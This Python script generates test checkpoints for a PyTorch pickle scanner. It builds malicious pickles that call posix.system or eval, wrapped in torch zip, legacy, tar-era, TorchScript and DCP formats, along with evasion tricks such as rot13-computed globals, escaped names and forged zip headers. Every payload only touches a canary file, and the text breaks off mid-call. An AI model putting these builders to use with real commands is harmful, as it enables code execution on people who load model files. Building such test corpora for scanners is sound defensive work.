#!/usr/bin/env python3
"""attacks.py OUTDIR - checkpoints whose payload a plain torch.load may run.

Plain Python 3 (struct, zlib, tarfile, io, json): no torch.  One file (or
folder) per technique, and OUTDIR/manifest.tsv, one line per case:

    NAME  KIND  PATH  ROLE  EXPECT  NAMES  SOURCE  TECHNIQUE

KIND      file, or the folder kinds hf (a Hugging Face sharded folder),
          ranks (per-rank .pt files), dcp (torch.distributed.checkpoint)
PATH      relative to OUTDIR
ROLE      hostile (holds a payload), or control (made by the same
          builders with no payload: what ptfs must not flag)
EXPECT    where the payload is expected to run, measured again by
          attacks_torch.py on every run: v1 (torch 1.13,
          weights_only=False), v1w (1.13, weights_only=True), v2 and v2w
          (torch 2.x); "-" for nowhere
NAMES     the globals the payload imports by their literal names
          (space-separated; "a|b": either spelling), which ptls --check
          must name; "-" when the name is computed at load time
SOURCE    where the technique was published ("issue 44": new here)

Every payload touches a marker file and does nothing else: a shell
command `touch "$PTFS_CANARY"` (the shell expands the variable when it
runs), or Python code opening os.environ['PTFS_CANARY'] for writing.  The
one exception is the TorchScript case, whose code cannot read the
environment: it creates "ptfs-canary" in the loader's working directory.

cases() yields the same cases to other scripts (tests/fuzz/seeds.py):
(name, kind, files) with files a {relative path: bytes} dict.
"""
import io
import json
import os
import struct
import sys
import tarfile
import zlib

CMD = 'touch "$PTFS_CANARY"'
PY = "open(__import__('os').environ['PTFS_CANARY'], 'w').close()"
TS_MARKER = "ptfs-canary"
MAGIC = 0x1950A86A20F9469CFC6C      # torch's legacy magic number
FLOATS = struct.pack("<4f", 1.0, 2.0, 3.0, 4.0)


# ---------------------------------------------------------------- pickles
class P:
    """A pickle written opcode by opcode (protocol 2 unless told)."""

    def __init__(self, proto=2):
        self.b = bytearray()
        if proto >= 2:
            self.b += bytes([0x80, proto])

    def op(self, *bs):
        for x in bs:
            self.b += x if isinstance(x, (bytes, bytearray)) else bytes([x])
        return self

    def glob(self, mod, name):                  # GLOBAL
        return self.op(b"c" + mod.encode() + b"\n" + name.encode() + b"\n")

    def sglob(self, mod, name):                 # STACK_GLOBAL of two strs
        return self.s(mod).s(name).op(b"\x93")

    def s(self, text):                          # BINUNICODE
        t = text.encode()
        return self.op(b"X" + struct.pack("<I", len(t)) + t)

    def by(self, data):                         # SHORT_BINBYTES/BINBYTES
        if len(data) < 256:
            return self.op(b"C" + bytes([len(data)]) + data)
        return self.op(b"B" + struct.pack("<I", len(data)) + data)

    def i(self, n):
        if 0 <= n < 256:
            return self.op(b"K" + bytes([n]))
        if -2**31 <= n < 2**31:
            return self.op(b"J" + struct.pack("<i", n))
        raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
        return self.op(b"\x8a" + bytes([len(raw)]) + raw)

    def ints(self, v):
        self.op(b"(")
        for n in v:
            self.i(n)
        return self.op(b"t")

    def val(self, v):
        if v is None:
            return self.op(b"N")
        if v is True or v is False:
            return self.op(b"\x88" if v else b"\x89")
        if isinstance(v, int):
            return self.i(v)
        if isinstance(v, float):
            return self.op(b"G" + struct.pack(">d", v))
        if isinstance(v, str):
            return self.s(v)
        if isinstance(v, bytes):
            return self.by(v)
        if isinstance(v, tuple):
            return self.ints(v) if all(isinstance(x, int) for x in v) else \
                self._seq(v, b"t")
        if isinstance(v, list):
            self.op(b"]").op(b"(")
            for x in v:
                self.val(x)
            return self.op(b"e")
        if isinstance(v, dict):
            self.op(b"}").op(b"(")
            for k, x in v.items():
                self.val(k).val(x)
            return self.op(b"u")
        if callable(v):         # a writer: v(self) appends one value
            v(self)
            return self
        raise TypeError(type(v))

    def _seq(self, v, close):
        self.op(b"(")
        for x in v:
            self.val(x)
        return self.op(close)

    def call(self, mod, name, *args):
        """mod.name(*args), the global by GLOBAL"""
        self.glob(mod, name)
        return self._seq(args, b"t").op(b"R")

    def scall(self, mod, name, *args):
        """mod.name(*args), the global by STACK_GLOBAL"""
        self.sglob(mod, name)
        return self._seq(args, b"t").op(b"R")

    def put(self, k):
        return self.op(b"r" + struct.pack("<I", k))

    def get(self, k):
        return self.op(b"j" + struct.pack("<I", k))

    def stop(self):
        return bytes(self.op(b".").b)

    def tensor(self, key="0", cls="FloatStorage", numel=4, shape=(4,),
               stride=(1,), hooks=None, storage=None):
        """torch._utils._rebuild_tensor_v2 of a zip storage, as torch.save
        writes it; storage/hooks: writers replacing those arguments"""
        self.glob("torch._utils", "_rebuild_tensor_v2").op(b"(")
        if storage is None:
            self.op(b"(").s("storage").glob("torch", cls).s(key).s("cpu")
            self.i(numel).op(b"t").op(b"Q")
        else:
            storage(self)
        self.i(0).ints(shape).ints(stride).op(b"\x89")
        if hooks is None:
            self.glob("collections", "OrderedDict").op(b")").op(b"R")
        else:
            hooks(self)
        return self.op(b"t").op(b"R")


def system(mod="posix", name="system", cmd=CMD):
    """a writer: mod.name(cmd), the shell payload"""
    return lambda p: p.call(mod, name, cmd)


def sd(**items):
    """a state-dict-like pickle: {'w': a tensor of storage 0, **items};
    an item's value is a python value or a writer"""
    p = P().op(b"}").op(b"(")
    p.s("w").tensor()
    for k, v in items.items():
        p.s(k).val(v)
    return p.op(b"u").stop()


# ------------------------------------------------------------------ zips
class R:
    """One zip record.  local/cd: fields of the local header or of the
    central directory entry to write other than the truth (name, flags,
    method, crc, csize, usize, extra); deflate: store it deflated."""

    def __init__(self, name, data, deflate=False, local=None, cd=None):
        self.name, self.data, self.deflate = name, data, deflate
        self.local, self.cd = dict(local or {}), dict(cd or {})


def _raw(r):
    if r.deflate:
        c = zlib.compressobj(6, zlib.DEFLATED, -15)
        return c.compress(r.data) + c.flush(), 8
    return r.data, 0


def zip_parts(recs, base=0, align=64):
    """(bytes of the local records, [central directory entries]) for recs
    laid out from offset base, each record's data aligned as torch.save
    aligns it (an 'FB' extra field of padding)"""
    out = bytearray()
    cds = []
    for r in recs:
        raw, method = _raw(r)
        crc = zlib.crc32(r.data) & 0xFFFFFFFF
        lname = r.local.get("name", r.name).encode()
        off = base + len(out)
        extra = r.local.get("extra")
        if extra is None:
            extra = b""
            if align:
                pad = -(off + 30 + len(lname)) % align
                if 0 < pad < 4:
                    pad += align
                if pad:
                    extra = b"FB" + struct.pack("<H", pad - 4) + \
                        b"Z" * (pad - 4)
        L = r.local
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20,
                           L.get("flags", 0), L.get("method", method), 0,
                           0x21, L.get("crc", crc), L.get("csize", len(raw)),
                           L.get("usize", len(r.data)), len(lname),
                           len(extra)) + lname + extra + raw
        C = r.cd
        cname = C.get("name", r.name).encode()
        cds.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20,
                               C.get("flags", 0), C.get("method", method), 0,
                               0x21, C.get("crc", crc),
                               C.get("csize", len(raw)),
                               C.get("usize", len(r.data)), len(cname),
                               len(C.get("extra", b"")), 0, 0, 0, 0,
                               C.get("offset", off)) + cname +
                   C.get("extra", b""))
    return bytes(out), cds


def eocd(n, size, off, comment=b""):
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, size, off,
                       len(comment)) + comment


def zip_bytes(recs, prefix=b"", order=None):
    """a whole archive: prefix (a preamble its offsets count), the
    records, the central directory in order (indices into recs, may
    repeat or leave out), the end record"""
    body, cds = zip_parts(recs, base=len(prefix))
    order = range(len(recs)) if order is None else order
    cd = b"".join(cds[k] for k in order)
    start = len(prefix) + len(body)
    return prefix + body + cd + eocd(len(order), len(cd), start)


def torch_records(pkl, storages=None, prefix="archive", extra=()):
    """the records torch.save writes: data.pkl, data/KEY, version"""
    storages = {"0": FLOATS} if storages is None else storages
    recs = [R(prefix + "/data.pkl", pkl)]
    recs += [R("%s/data/%s" % (prefix, k), v) for k, v in storages.items()]
    recs += list(extra)
    recs.append(R(prefix + "/version", b"3\n"))
    return recs


def tzip(pkl, **kw):
    return zip_bytes(torch_records(pkl, **kw))


# ---------------------------------------------------------- legacy streams
def legacy(obj=None, magic=None, proto=None, info=None, keys=None,
           storages=((("0", FLOATS)),)):
    """the pre-1.6 stream (_use_new_zipfile_serialization=False): five
    pickles (magic number, protocol version, sys_info, the object, the
    storage keys), then each storage as int64 element count and bytes;
    any of the five replaced by the writer given"""
    def one(w, default):
        p = P()
        (w or default)(p)
        return p.stop()

    def obj_default(p):
        p.op(b"}").s("w").glob("torch._utils", "_rebuild_tensor_v2").op(b"(")
        p.op(b"(").s("storage").glob("torch", "FloatStorage").s("0")
        p.s("cpu").i(4).op(b"N").op(b"t").op(b"Q")
        p.i(0).ints((4,)).ints((1,)).op(b"\x89")
        p.glob("collections", "OrderedDict").op(b")").op(b"R").op(b"t")
        p.op(b"R").op(b"s")

    def keys_default(p):
        p.op(b"]").op(b"(")
        for k, _ in storages:
            p.s(k)
        p.op(b"e")

    out = one(magic, lambda p: p.i(MAGIC))
    out += one(proto, lambda p: p.i(1001))
    out += one(info, lambda p: p.val({"protocol_version": 1001,
                                      "little_endian": True,
                                      "type_sizes": {"short": 2, "int": 4,
                                                     "long": 4}}))
    out += one(obj, obj_default)
    out += one(keys, keys_default)
    for _, data in storages:
        out += struct.pack("<q", len(data) // 4) + data
    return out


def tar_era(storages=None, storage_args=None, views=None, tensors=None,
            tensor_args=None, pickle=None, sys_info=None):
    """the tar-era layout (torch < 0.4) of tests/fixtures/tar_format.py:
    members sys_info, pickle, storages, tensors; any pickle of them
    replaced by the writer given (storages: the count, storage_args: the
    one storage's (key, location, class), views: the storage views;
    tensors and tensor_args the same in 'tensors'; pickle: the object)"""
    def one(w, default):
        p = P()
        (w or default)(p)
        return p.stop()

    values = FLOATS + struct.pack("<4f", 5, 6, 7, 8)
    st = one(storages, lambda p: p.i(1))
    st += one(storage_args, lambda p: p.op(b"(").i(3).s("cpu").glob(
        "torch", "FloatStorage").op(b"t"))
    st += struct.pack("<q", 8) + values
    st += one(views, lambda p: p.op(b"]"))
    te = one(tensors, lambda p: p.i(1))
    te += one(tensor_args, lambda p: p.op(b"(").i(20).i(3).glob(
        "torch", "FloatTensor").op(b"t"))
    te += struct.pack("<i", 2) + bytes(4) + struct.pack("<2q", 2, 4)
    te += struct.pack("<2q", 4, 1) + struct.pack("<q", 0)
    main = one(pickle, lambda p: p.op(b"}").s("grid").s("20").op(b"Q").op(
        b"s"))
    info = one(sys_info, lambda p: p.val({"protocol_version": 1000,
                                          "little_endian": True,
                                          "type_sizes": {"short": 2,
                                                         "int": 4,
                                                         "long": 8}}))
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, data in (("sys_info", info), ("pickle", main),
                           ("storages", st), ("tensors", te)):
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = 0
            t.addfile(ti, io.BytesIO(data))
    return bio.getvalue()


# ============================================================ the cases
CASES = []


def case(name, technique, source, expect, names, files, role="hostile",
         kind="file"):
    assert all(c["name"] != name for c in CASES), name
    if isinstance(files, (bytes, bytearray)):
        files = {name + ".pt": bytes(files)}
        path = name + ".pt"
    else:
        path = name
        files = {name + "/" + k: v for k, v in files.items()}
    CASES.append(dict(name=name, kind=kind, path=path, role=role,
                      expect=expect, names=names or "-", source=source,
                      technique=technique, files=files))


BOTH = "v1 v2"

# -- the baseline: a literal global in data.pkl (what ptls already flags)
case("zip_posix_system", "posix.system in data.pkl (the baseline)",
     "picklescan Malicious2", BOTH, "posix.system",
     tzip(sd(payload=system())))
case("control_zip", "the zip builder's state dict, no payload",
     "issue 44", "-", "", tzip(sd()), role="control")

# -- legacy (pre-1.6) streams: the payload in each of the five pickles
for part in ("magic", "proto", "info", "obj", "keys"):
    kw = {part: (lambda p: p.op(b"}").s("payload").call(
        "posix", "system", CMD).op(b"s")) if part == "obj" else system()}
    case("legacy_payload_" + part,
         "legacy stream, the payload as its %s pickle" % {
             "magic": "magic-number", "proto": "protocol-version",
             "info": "sys_info", "obj": "object",
             "keys": "storage-keys"}[part],
         "issue 44", BOTH, "posix.system", legacy(**kw))
case("legacy_magic_eval",
     "legacy stream whose magic number is computed by builtins.eval, "
     "which also runs the payload; the load then succeeds",
     "picklescan pytorch_magic_bypass.pt", BOTH, "builtins.eval",
     legacy(magic=lambda p: p.call(
         "builtins", "eval", "(%s, %d)[1]" % (PY, MAGIC))))
case("control_legacy", "the legacy builder, no payload", "issue 44", "-",
     "", legacy(), role="control")
case("legacy_trailing_pickle",
     "a legacy stream followed by a pickle with a payload nobody reads",
     "issue 44", "-", "", legacy() + P().call("posix", "system", CMD).stop())

# -- tar-era (torch < 0.4) files: the payload in each member torch reads
for member, kw in (("storages", dict(storages=system())),
                   ("storage_args", dict(storage_args=system())),
                   ("views", dict(views=system())),
                   ("tensors", dict(tensors=system())),
                   ("tensor_args", dict(tensor_args=system())),
                   ("pickle", dict(pickle=lambda p: p.op(b"}").s(
                       "payload").call("posix", "system", CMD).op(b"s")))):
    case("tar_payload_" + member,
         "tar-era file, the payload as the %s pickle" % member,
         "issue 44 (torch/serialization.py legacy_load)", BOTH,
         "posix.system", tar_era(**kw))
case("tar_payload_sys_info",
     "tar-era file, the payload in sys_info, which torch never reads",
     "issue 44", "-", "", tar_era(sys_info=system()))
case("control_tar", "the tar-era builder, no payload", "issue 44", "-", "",
     tar_era(), role="control")

# -- two end records: the comment of the real one holds another
benign, evil = sd(), sd(payload=system())


def two_eocds(inner_pkl, outer_pkl, junk=8):
    """records of both data.pkl's; the real end record (its directory
    names outer_pkl) has a comment holding a second end record (naming
    inner_pkl) and junk bytes"""
    recs = [R("archive/data.pkl", outer_pkl), R("archive/data.pkl", inner_pkl),
            R("archive/data/0", FLOATS), R("archive/version", b"3\n")]
    body, cds = zip_parts(recs)
    cd_outer = cds[0] + cds[2] + cds[3]
    cd_inner = cds[1] + cds[2] + cds[3]
    off_outer = len(body)
    off_inner = off_outer + len(cd_outer)
    inner = eocd(3, len(cd_inner), off_inner)
    return body + cd_outer + cd_inner + \
        eocd(3, len(cd_outer), off_outer, inner + b"J" * junk)


case("eocd_in_comment_evil",
     "the real end record names a benign data.pkl, its comment holds a "
     "second end record (then 8 junk bytes) naming a malicious one",
     "issue 44", BOTH, "posix.system", two_eocds(evil, benign))
case("eocd_in_comment_benign",
     "the same with the roles swapped: the comment's end record names the "
     "benign data.pkl, the real one the malicious (torch takes the "
     "comment's)", "issue 44", "-", "posix.system", two_eocds(benign, evil))
case("eocd_in_comment_nojunk",
     "a second end record in the comment, nothing after it",
     "issue 44", BOTH, "posix.system", two_eocds(evil, benign, junk=0))

# -- one name twice, and names that differ in case
for order, tag in (((0, 1), "evil_second"), ((1, 0), "evil_first")):
    pk = [benign, evil] if order == (0, 1) else [evil, benign]
    recs = [R("archive/data.pkl", pk[0]), R("archive/data.pkl", pk[1]),
            R("archive/data/0", FLOATS), R("archive/version", b"3\n")]
    case("dup_datapkl_" + tag,
         "archive/data.pkl listed twice, the %s one malicious (torch reads "
         "the last)" % ("second" if tag == "evil_second" else "first"),
         "issue 44", BOTH if tag == "evil_second" else "-", "posix.system",
         zip_bytes(recs))
for evil_name in ("data.pkl", "Data.pkl"):
    for first in ("data.pkl", "Data.pkl"):
        names = [first, "Data.pkl" if first == "data.pkl" else "data.pkl"]
        recs = [R("archive/" + n, evil if n == evil_name else benign)
                for n in names]
        recs += [R("archive/data/0", FLOATS), R("archive/version", b"3\n")]
        case("case_%s_evil_%s_first" % (
            "upper" if evil_name == "Data.pkl" else "lower",
            "upper" if first == "Data.pkl" else "lower"),
            "archive/data.pkl beside archive/Data.pkl, %s malicious, %s "
            "listed first (torch looks names up ignoring case and finds "
            "the last)" % (evil_name, first), "issue 44",
            BOTH if evil_name != first else "-", "posix.system",
            zip_bytes(recs))

# -- a pickle in front of a valid zip (offsets count it: a valid archive)
stub = P().call("posix", "system", CMD).stop()
case("stub_before_zip",
     "a pickle with a payload in front of a valid zip (a preamble its "
     "offsets count): torch sees no PK magic and unpickles the stub",
     "issue 44", BOTH, "posix.system",
     zip_bytes(torch_records(benign), prefix=stub))
case("stub_before_zip_unshifted",
     "the same, the zip's offsets not counting the stub",
     "issue 44", BOTH, "posix.system", stub + tzip(benign))

# -- bare pickles (not a zip, not a legacy stream)
case("bare_pickle_p2", "a bare protocol-2 pickle, posix.system by GLOBAL",
     "picklescan malicious2_v3", BOTH, "posix.system", P().call(
         "posix", "system", CMD).stop())
case("bare_pickle_p4", "a bare protocol-4 pickle, STACK_GLOBAL from "
     "memoized strings", "picklescan malicious2_v4", BOTH, "posix.system",
     bytes(P(4).op(b"\x8c\x05posix\x94\x8c\x06system\x94\x93\x94").op(
         b"(").s(CMD).op(b"tR.").b))
case("bare_pickle_p0", "a bare protocol-0 pickle (text opcodes)",
     "picklescan malicious2_v0", BOTH, "posix.system",
     b"cposix\nsystem\n(V" + CMD.encode() + b"\ntR.")
case("bare_pickle_inst", "a bare protocol-0 INST", "picklescan malicious10",
     BOTH, "posix.system", b"(V" + CMD.encode() + b"\niposix\nsystem\n.")
case("bare_pickle_after_stop",
     "a benign bare pickle, a payload after its STOP", "issue 44", "-", "",
     P().op(b"}").stop() + P().call("posix", "system", CMD).stop())
case("after_stop_in_datapkl",
     "data.pkl: a benign state dict, then a payload after its STOP that "
     "no loader reaches", "issue 44", "-", "",
     tzip(benign + P().call("posix", "system", CMD).stop()))


# -- names computed at load time, and names spelled so that only CPython
# reads them as it does
def rot13(s):
    return s.translate(str.maketrans(
        "abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm"))


def rot(p, s):          # _codecs.encode('<rot13 of s>', 'rot13') == s
    p.call("_codecs", "encode", rot13(s), "rot13")


p = P(4).op(b"}").s("payload")
rot(p, "posix")
rot(p, "system")
p.op(b"\x93").op(b"(").s(CMD).op(b"tR").op(b"s")
case("codecs_rot13_stack_global",
     "STACK_GLOBAL of names _codecs.encode(..., 'rot13') computes "
     "(_codecs.encode is on weights_only's allowlist)",
     "issue 44", BOTH, "-", tzip(p.stop()))
p = P(4)
rot(p, "posix")
p.op(b"\x94").op(b"0")
rot(p, "system")
p.op(b"\x94").op(b"0").op(b"}").s("payload").op(b"h\x00h\x01\x93")
p.op(b"(").s(CMD).op(b"tR").op(b"s")
case("codecs_rot13_memo",
     "the same names computed, memoized, popped, then fetched for "
     "STACK_GLOBAL", "issue 44", BOTH, "-", tzip(p.stop()))


def text_global(mod, name, op):
    """the dict {'payload': mod.name(CMD)} with the names pushed by a
    protocol-0 text opcode (already escaped by the caller)"""
    return (b"\x80\x02}Vpayload\n" + op + mod + b"\n" + op + name + b"\n" +
            b"\x93(V" + CMD.encode() + b"\ntRs.")


case("escape_string_hex", "STRING 'po\\x73ix' and 'sys\\x74em' "
     "(CPython unescapes them), then STACK_GLOBAL", "issue 44", BOTH,
     "posix.system",
     tzip(text_global(b"'po\\x73ix'", b"'sys\\x74em'", b"S")))
case("escape_string_octal", "STRING with octal escapes ('\\160osix'), "
     "then STACK_GLOBAL", "issue 44", BOTH, "posix.system",
     tzip(text_global(b"'\\160osix'", b"'s\\171stem'", b"S")))
case("escape_unicode_u", "UNICODE 'po\\u0073ix' and 'sys\\u0074em' "
     "(raw-unicode-escape), then STACK_GLOBAL", "issue 44", BOTH,
     "posix.system",
     tzip(text_global(b"po\\u0073ix", b"sys\\u0074em", b"V")))
case("escape_unicode_U", "UNICODE with \\U00000073 escapes, then "
     "STACK_GLOBAL", "issue 44", BOTH, "posix.system",
     tzip(text_global(b"po\\U00000073ix", b"\\U00000073ystem", b"V")))
case("string_stack_global",
     "STRING opcodes (no escapes) for STACK_GLOBAL, no PROTO",
     "picklescan GHSA-9gvj-pp9x-gcfr (malicious23)", BOTH, "posix.system",
     tzip(b"}Vpayload\nS'posix'\nS'system'\n\x93(V" + CMD.encode() +
          b"\ntRs."))


def memo_spelled(spell10, spell20):
    """protocol-0 PUT/GET with keys CPython's int() reads as 10 and 20;
    keys a reader may take them for instead (1, 2, 8, 16, 0) hold
    torch.FloatStorage's names, put after them"""
    assert int(spell10) == 10 and int(spell20) == 20
    b = b"\x80\x02Vposix\np" + spell10.encode() + b"\n0"
    b += b"Vsystem\np" + spell20.encode() + b"\n0"
    for k in (0, 1, 8):
        b += b"Vtorch\np%d\n0" % k
    for k in (2, 16):
        b += b"VFloatStorage\np%d\n0" % k
    b += b"}Vpayload\ng" + spell10.encode() + b"\ng" + spell20.encode()
    return b + b"\n\x93(V" + CMD.encode() + b"\ntRs."


for tag, s10, s20 in (("underscore", "1_0", "2_0"), ("space", " 10", " 20"),
                      ("plus", "+10", "+20"), ("zeros", "0010", "0020"),
                      ("trailing_space", "10 ", "20 "),
                      ("tab", "\t10", "\t20"),
                      ("mixed", "+0_0_1_0 ", " 0_2_0")):
    case("memo_key_" + tag,
         "protocol-0 PUT/GET with memo keys %r and %r (CPython reads 10 "
         "and 20), STACK_GLOBAL of what they hold" % (s10, s20),
         "issue 44", BOTH, "posix.system", tzip(memo_spelled(s10, s20)))

# -- torch's own rebuild functions given a payload
for mod in ("posix", "os"):
    p = P().op(b"}").s("payload").glob("torch._tensor",
                                       "_rebuild_from_type_v2").op(b"(")
    p.glob(mod, "system").glob("torch", "Tensor").op(b"(").s(CMD).op(b"t")
    p.op(b"}").op(b"t").op(b"R").op(b"s")
    case("rebuild_from_type_v2_%s_system" % mod,
         "torch._tensor._rebuild_from_type_v2 given %s.system as its "
         "function (it calls func(*args))" % mod, "issue 44", BOTH,
         mod + ".system", tzip(p.stop()))
p = P().op(b"}").s("w").tensor(storage=lambda p: p.op(b"(").s(
    "storage").glob("torch", "FloatStorage").call("posix", "system", CMD)
    .s("cpu").i(4).op(b"t").op(b"Q")).op(b"s")
case("persid_built_by_call",
     "a BINPERSID whose storage key is posix.system(...)'s result (0, a "
     "key the archive has: the load succeeds)", "issue 44", BOTH,
     "posix.system", tzip(p.stop()))
p = P().op(b"}").s("w").tensor(hooks=system()).op(b"s")
case("rebuild_tensor_hooks_call",
     "_rebuild_tensor_v2 whose backward_hooks argument is a call of "
     "posix.system", "issue 44", BOTH, "posix.system", tzip(p.stop()))
p = P().op(b"}").s("w").tensor(storage=system()).op(b"s")
case("rebuild_tensor_storage_call",
     "_rebuild_tensor_v2 whose storage argument is posix.system(...)",
     "issue 44", BOTH, "posix.system", tzip(p.stop()))
p = P().op(b"}").s("w").tensor(hooks=lambda p: p.glob(
    "collections", "OrderedDict").op(b")").op(b"R").op(b"(").s("h").glob(
    "posix", "system").op(b"u")).op(b"s")
case("rebuild_tensor_hook_global",
     "_rebuild_tensor_v2 with posix.system as a backward hook (nothing "
     "calls it at load)", "issue 44", "-", "posix.system", tzip(p.stop()))

# -- the local header says another name, or other fields, than the
# central directory
recs = torch_records(evil)
recs[0].local["name"] = "archive/other.pkl"
case("local_name_differs",
     "data.pkl's local header names archive/other.pkl", "picklescan "
     "GHSA-7q5r-7gvp-wc82 (malicious1_central_directory.zip)", BOTH,
     "posix.system", zip_bytes(recs))
recs = [R("archive/data.pkl", benign, cd={"name": "archive/xdat.pkl"}),
        R("archive/ydat.pkl", evil, cd={"name": "archive/data.pkl"}),
        R("archive/data/0", FLOATS), R("archive/version", b"3\n")]
case("local_names_swapped",
     "the local headers call the benign pickle data.pkl; the central "
     "directory gives that name to the malicious one", "issue 44", BOTH,
     "posix.system", zip_bytes(recs))
for field, val in (("csize", 0), ("usize", 0), ("crc", 0x12345678),
                   ("method", 8), ("flags", 8)):
    recs = torch_records(evil)
    recs[0].local[field] = val
    if field == "csize":
        recs[0].local["usize"] = 0
    case("local_%s_differs" % field,
         "data.pkl's local header says %s=%#x, the central directory the "
         "truth" % (field, val), "issue 44", BOTH, "posix.system",
         zip_bytes(recs))
recs = torch_records(evil)
recs[0].local["extra"] = benign
case("local_extra_hides_benign",
     "data.pkl's local header has an extra field holding a benign pickle "
     "(the directory's extra length is 0): a reader adding the "
     "directory's lengths reads it instead", "issue 44", BOTH,
     "posix.system", zip_bytes(recs))
for bit in (0x1, 0x20, 0x40):
    recs = torch_records(evil)
    recs[0].local["flags"] = recs[0].cd["flags"] = bit
    case("flag_bit_%#x" % bit,
         "data.pkl's general-purpose flags %#x in both headers (zipfile "
         "refuses it; torch's miniz refuses it too)" % bit,
         "picklescan GHSA-w8jq-xcqf-f792 (malicious1_%#x.zip)" % bit, "-",
         "posix.system", zip_bytes(recs))
recs = torch_records(evil)
recs[0].local["crc"] = recs[0].cd["crc"] = 0xDEADBEEF
case("crc_wrong", "data.pkl with a wrong CRC-32 in both headers",
     "picklescan malicious1_crc.zip", BOTH, "posix.system",
     zip_bytes(recs))
recs = torch_records(evil)
recs[0].deflate = True
case("deflated_datapkl", "data.pkl deflated (torch.save stores it)",
     "issue 44", BOTH, "posix.system", zip_bytes(recs))

# -- pickles other than data.pkl
ts_code = b"""class M(Module):
  __parameters__ = []
  __buffers__ = []
  training : bool
  _is_full_backward_hook : Optional[bool]
  p : str
  t : Tensor
  def forward(self: __torch__.M,
    x: Tensor) -> Tensor:
    return x
  def __getstate__(self: __torch__.M) -> Tuple[str, bool]:
    return (self.p, self.training)
  def __setstate__(self: __torch__.M,
    state: Tuple[str, bool]) -> NoneType:
    self.p = (state)[0]
    self.training = (state)[1]
    self.t = torch.from_file(self.p, True, 1, dtype=0)
    return None
"""
ts_pkl = bytes(P().glob("__torch__", "M").op(b")\x81").s(TS_MARKER).op(
    b"\x88\x86b").op(b".").b)
case("torchscript_setstate",
     "a TorchScript archive whose __setstate__ creates a file "
     "(torch.from_file(shared=True)); torch.load dispatches to "
     "torch.jit.load, with weights_only=True too before torch 2.6",
     "CVE-2025-32434 (GHSA-53q9-r3pm-6pq6; fixed by pytorch#143326)",
     "v1 v1w v2", "-",
     zip_bytes([R("ts/data.pkl", ts_pkl),
                R("ts/code/__torch__.py", ts_code, deflate=True),
                R("ts/constants.pkl", P().op(b")").stop()),
                R("ts/version", b"3\n")]))
case("code_members_no_constants",
     "TorchScript-style code/ members beside a malicious data.pkl, no "
     "constants.pkl: torch.load unpickles data.pkl itself", "issue 44",
     BOTH, "posix.system",
     tzip(evil, extra=[R("archive/code/__torch__.py", ts_code)]))
case("constants_pkl_payload",
     "a state dict with a constants.pkl holding a payload: torch.load "
     "hands the archive to torch.jit.load, whose unpickler imports no "
     "Python", "issue 44", "-", "posix.system",
     tzip(benign, extra=[R("archive/constants.pkl", P().call(
         "posix", "system", CMD).stop())]))
case("constants_pkl_beside_evil_data",
     "a malicious data.pkl with an empty constants.pkl beside it (the "
     "TorchScript dispatch)", "issue 44", "-", "posix.system",
     tzip(evil, extra=[R("archive/constants.pkl", P().op(b")").stop())]))
case("extra_foo_pkl",
     "a benign data.pkl and a malicious archive/foo.pkl nothing reads",
     "issue 44", "-", "posix.system",
     tzip(benign, extra=[R("archive/foo.pkl", P().call(
         "posix", "system", CMD).stop())]))
case("pickle_wrong_extension",
     "the malicious pickle as archive/data.txt, no data.pkl",
     "picklescan GHSA-769v-p64c-89pr (malicious1_wrong_ext.zip)", "-",
     "posix.system",
     zip_bytes([R("archive/data.txt", evil), R("archive/data/0", FLOATS),
                R("archive/version", b"3\n")]))


# -- folders: DCP, per-rank files, a Hugging Face sharded folder
def dcp_metadata(payload=None, hidden=None):
    """a .metadata as FileSystemWriter pickles it: Metadata with one
    tensor item (w, float32 (4,)) and one bytes item (step), both in
    __0_0.distcp; payload: a writer run first, its value popped; hidden:
    a writer for planner_data's value of w"""
    m = "torch.distributed.checkpoint.metadata"
    p = P(4)
    if payload:
        payload(p)
        p.op(b"0")

    def size(*dims):
        return lambda p: p.sglob("torch", "Size").op(b"(").ints(dims).op(
            b"tR")

    def obj(mod, cls, state):
        return lambda p: p.sglob(mod, cls).op(b")\x81").val(state).op(b"b")

    props = lambda p: p.sglob(m, "TensorProperties").op(b")\x81(").sglob(
        "torch", "float32").call("torch.serialization", "_get_layout",
                                 "torch.strided").op(b"\x89").call(
        m, "_MEM_FORMAT_ENCODING", 0).op(b"\x89tb")
    chunk = obj(m, "ChunkStorageMetadata", {"offsets": size(0),
                                            "sizes": size(4)})
    tmeta = obj(m, "TensorStorageMetadata", {"properties": props,
                                             "size": size(4),
                                             "chunks": [chunk]})
    bmeta = obj(m, "BytesStorageMetadata", {})
    fs = "torch.distributed.checkpoint.filesystem"
    storage = lambda p: p.op(b"}(").val(obj(m, "MetadataIndex", {
        "fqn": "w", "index": 0, "offset": size(0)})).val(obj(
            fs, "_StorageInfo", {"relative_path": "__0_0.distcp",
                                 "offset": 0, "length": DCP_W})).val(obj(
            m, "MetadataIndex", {"fqn": "step", "index": None})).val(obj(
            fs, "_StorageInfo", {"relative_path": "__0_0.distcp",
                                 "offset": DCP_W, "length": DCP_S})).op(b"u")
    obj(m, "Metadata", {"state_dict_metadata": {"w": tmeta, "step": bmeta},
                        "planner_data": {"w": hidden or ("w",),
                                         "step": ("step",)},
                        "storage_data": storage, "storage_meta": None,
                        "version": "1.0.0"})(p)
    return p.stop()


DCP_ITEM_W = tzip(P().tensor().stop())
DCP_ITEM_S = tzip(P().i(11).stop(), storages={})
DCP_W, DCP_S = len(DCP_ITEM_W), len(DCP_ITEM_S)
DISTCP = DCP_ITEM_W + DCP_ITEM_S
case("dcp_metadata_payload",
     "a DCP directory whose .metadata runs posix.system first "
     "(FileSystemReader.read_metadata is a plain pickle.load)",
     "issue 44", BOTH, "posix.system",
     {".metadata": dcp_metadata(system()), "__0_0.distcp": DISTCP},
     kind="dcp")
case("dcp_metadata_hidden",
     "a DCP directory, the payload inside .metadata's planner_data (1.13 "
     "fails on the Metadata class before it)", "issue 44", "v2",
     "posix.system",
     {".metadata": dcp_metadata(hidden=system()), "__0_0.distcp": DISTCP},
     kind="dcp")
case("control_dcp", "the DCP builder, no payload", "issue 44", "-", "",
